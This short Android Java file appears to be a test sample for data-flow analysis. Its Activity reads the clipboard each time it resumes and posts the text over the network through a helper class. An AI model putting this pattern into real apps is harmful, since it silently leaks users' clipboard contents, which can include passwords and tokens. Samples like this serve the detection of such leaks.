package org.example.flows.phone;

import android.app.Activity;
import android.content.ClipboardManager;
import org.example.flows.Net;

public class Clip extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        ClipboardManager board = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        Net.post(board.getPrimaryClip().getItemAt(0).getText().toString());
    }
}
